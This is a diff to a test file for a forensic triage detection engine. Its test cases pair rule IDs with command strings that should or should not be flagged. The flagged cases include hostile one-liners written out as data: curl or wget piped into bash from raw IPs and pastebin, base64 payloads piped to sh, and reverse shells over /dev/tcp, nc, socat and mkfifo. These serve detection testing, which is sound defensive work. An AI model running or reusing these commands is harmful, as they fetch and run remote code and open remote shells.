@@ -72,11 +72,16 @@ def test_duplicate_ids_are_refused(tmp_path):
 
 SHIPPED = {r.id: r for r in engine.load_rules()}
 COMMANDS = {
-    "TRI-EXEC-001": (["curl -s http://198.51.100.7/x.sh | bash", "wget -qO- http://x/y | sh",
-                      "wget -q -O - http://x/i.sh | sudo bash", "echo aGVsbG8= | base64 -d | sh",
-                      "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "sh -c \"$(curl -fsSL http://h/i)\""],
+    # from a raw IP, a paste site or into a hidden /tmp file: high (more in test_rules_history.py)
+    "TRI-EXEC-001": (["curl -s http://198.51.100.7/x.sh | bash", "wget -qO- http://203.0.113.4:8080/y | sh",
+                      "wget -q -O - https://pastebin.com/raw/x | sudo bash", "echo aGVsbG8= | base64 -d | sh",
+                      "curl -o /tmp/.x http://h/x && chmod +x /tmp/.x", "sh -c \"$(curl -fsSL http://192.0.2.9/i)\""],
                      ["curl -s https://example.com/api", "wget http://mirror/file.iso", "base64 -d a.txt > b",
-                      "cat /etc/passwd | grep bash"]),
+                      "cat /etc/passwd | grep bash", "curl -fsSL https://get.docker.com | sh"]),
+    # from any other host: medium, it needs a second sign
+    "TRI-EXEC-006": (["wget -qO- http://x/y | sh", "wget -q -O - http://x/i.sh | sudo bash",
+                      "sh -c \"$(curl -fsSL http://h/i)\""],
+                     ["curl -s http://198.51.100.7/x.sh | bash", "curl -fsSL https://get.docker.com | sh"]),
     "TRI-EXEC-002": (["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "nc -e /bin/sh 192.0.2.1 4444",
                       "socat tcp:192.0.2.1:9 exec:/bin/bash,pty",
                       "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i|nc 1.2.3.4 9",
@@ -175,7 +180,9 @@ def test_planted_root_gives_findings_and_a_yes(tmp_path):
         line = tar.extractfile(pointer["member"]).read().splitlines()[pointer["line"] - 1]
     assert "curl" in json.loads(line)["command"]
     assert verdict["recommendation"] == "yes" and summary["full_disk"] == "yes"
-    tampering = sorted(f["summary"] for f in by_rule["TRI-EVADE-008"])
+    # a wiped record is high (TRI-EVADE-008); time running backwards only medium (TRI-EVADE-011): NTP and
+    # VM snapshots do that too
+    tampering = [f["summary"] for f in by_rule["TRI-EVADE-008"]] + [f["summary"] for f in by_rule["TRI-EVADE-011"]]
     assert len(tampering) == 2 and "1 zeroed record(s) between records 0 and 2" in tampering[0], tampering
     assert "record 3 is 7260 s older than record 2" in tampering[1], tampering
     sigma = {f["title"]: f for f in findings if f.get("kind") == "sigma"}
